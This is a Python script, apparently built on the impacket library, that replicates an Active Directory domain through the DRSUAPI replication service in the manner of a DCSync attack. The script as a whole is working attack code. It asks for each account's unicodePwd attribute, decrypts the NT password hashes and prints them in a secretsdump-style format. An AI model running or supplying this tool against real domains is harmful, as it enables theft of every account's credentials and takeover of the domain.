"""The hashes of a whole domain, page by page, with impacket and for the very attributes that samesign asks for.

Usage: pages.py ADDRESS HOST USER PASSWORD. It prints a line for each account, as secretsdump.py does, which itself
asks for one account at a time.
"""

import sys

from impacket.dcerpc.v5 import drsuapi, epm, transport
from impacket.dcerpc.v5.dtypes import NULL
from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY

UNICODE_PWD = 0x9005A
# instanceType, isDeleted, userAccountControl, pwdLastSet.
WANTED = [0x20001, 0x20030, 0x90008, UNICODE_PWD, 0x90060]
# It decodes a page by recursion, and Python has room for no more.
PAGE = 500


def connect(address, domain, user, password):
    binding = epm.hept_map(address, drsuapi.MSRPC_UUID_DRSUAPI, protocol="ncacn_ip_tcp")
    channel = transport.DCERPCTransportFactory(binding)
    channel.set_credentials(user, password, domain)
    calls = channel.get_dce_rpc()
    calls.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    calls.connect()
    calls.bind(drsuapi.MSRPC_UUID_DRSUAPI)
    return calls


def bind(calls):
    """The handle of a binding to the replication service."""
    mine = drsuapi.DRS_EXTENSIONS_INT()
    mine["cb"] = len(mine)
    mine["dwFlags"] = (
        drsuapi.DRS_EXT_GETCHGREQ_V8 | drsuapi.DRS_EXT_GETCHGREPLY_V6 | drsuapi.DRS_EXT_STRONG_ENCRYPTION
    )
    mine["SiteObjGuid"] = mine["ConfigObjGUID"] = drsuapi.NULLGUID
    mine["Pid"] = mine["dwReplEpoch"] = mine["dwFlagsExt"] = mine["dwExtCaps"] = 0
    request = drsuapi.DRSBind()
    request["puuidClientDsa"] = drsuapi.NTDSAPI_CLIENT_GUID
    request["pextClient"]["cb"] = len(mine)
    request["pextClient"]["rgb"] = list(mine.getData())
    return calls.request(request)["phDrs"]


def attributes():
    wanted = drsuapi.PARTIAL_ATTR_VECTOR_V1_EXT()
    wanted["dwVersion"] = 1
    wanted["cAttrs"] = len(WANTED)
    for number in WANTED:
        entry = drsuapi.ATTRTYP()
        entry["Data"] = number
        wanted["rgPartialAttr"].append(entry)
    return wanted


def name_of(dn):
    name = drsuapi.DSNAME()
    name["SidLen"] = 0
    name["Guid"] = drsuapi.NULLGUID
    name["Sid"] = ""
    name["NameLen"] = len(dn)
    name["StringName"] = dn + "\x00"
    name["structLen"] = len(name.getData())
    return name


def pages(calls, handle, root):
    """Each page is asked for behind the one before."""
    since = (0, 0)
    while True:
        request = drsuapi.DRSGetNCChanges()
        request["hDrs"] = handle
        request["dwInVersion"] = 8
        request["pmsgIn"]["tag"] = 8
        wish = request["pmsgIn"]["V8"]
        wish["uuidDsaObjDest"] = wish["uuidInvocIdSrc"] = drsuapi.NULLGUID
        wish["pNC"] = name_of(root)
        wish["usnvecFrom"]["usnHighObjUpdate"], wish["usnvecFrom"]["usnHighPropUpdate"] = since
        wish["usnvecFrom"]["usnReserved"] = 0
        wish["pUpToDateVecDest"] = NULL
        wish["ulFlags"] = drsuapi.DRS_INIT_SYNC | drsuapi.DRS_WRIT_REP
        wish["cMaxObjects"] = PAGE
        wish["cMaxBytes"] = 0
        wish["ulExtendedOp"] = 0
        wish["pPartialAttrSet"] = attributes()
        wish["pPartialAttrSetEx1"] = NULL
        wish["PrefixTableDest"]["PrefixCount"] = 0
        wish["PrefixTableDest"]["pPrefixEntry"] = NULL
        page = calls.request(request)["pmsgOut"]["V6"]
        yield page
        since = (page["usnvecTo"]["usnHighObjUpdate"], page["usnvecTo"]["usnHighPropUpdate"])
        if page["fMoreData"] == 0:
            return


def objects(page):
    entry = page["pObjects"] if page["cNumObjects"] else b""
    while entry != b"":
        yield entry["Entinf"]
        entry = entry["pNextEntInf"]


def main(address, host, user, password):
    domain = host.partition(".")[2]
    sys.setrecursionlimit(100_000)
    calls = connect(address, domain, user, password)
    root = ",".join(f"DC={label}" for label in domain.split("."))
    for page in pages(calls, bind(calls), root):
        for found in objects(page):
            rid = int.from_bytes(found["pName"]["Sid"][-4:], "little")
            for attribute in found["AttrBlock"]["pAttr"]:
                values = attribute["AttrVal"]
                if attribute["attrTyp"] == UNICODE_PWD and values["valCount"] == 1:
                    sealed = drsuapi.DecryptAttributeValue(calls, b"".join(values["pAVal"][0]["pVal"]))
                    print(f":{rid}::{drsuapi.removeDESLayer(sealed, rid).hex()}:::")


main(*sys.argv[1:])
